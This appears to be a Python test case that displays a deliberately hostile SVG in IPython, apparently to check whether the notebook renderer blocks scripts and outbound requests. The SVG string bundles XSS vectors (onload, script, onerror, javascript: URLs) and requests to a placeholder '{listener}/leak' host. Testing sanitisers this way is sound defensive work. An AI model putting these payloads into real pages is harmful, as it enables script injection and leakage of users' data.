# outcome: ok
# prints: shown
from IPython.display import SVG
bad = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='20' height='20' onload='window.escaped=1;document.title=\"x\"'><script>window.escaped=2;fetch('http://{listener}/leak')</script><use xlink:href='http://{listener}/leak#a'/><image href='http://{listener}/leak'/><foreignObject width='20' height='20'><body xmlns='http://www.w3.org/1999/xhtml'><img src='http://{listener}/leak' onerror='window.escaped=3'/><iframe src='http://{listener}/leak'/></body></foreignObject><a xlink:href='javascript:window.escaped=4'><rect width='20' height='20'/></a><style>@import 'http://{listener}/leak'; rect{fill:url(http://{listener}/leak#x)}</style><animate attributeName='href' values='javascript:window.escaped=5'/></svg>"
print("shown")
display(SVG(bad))
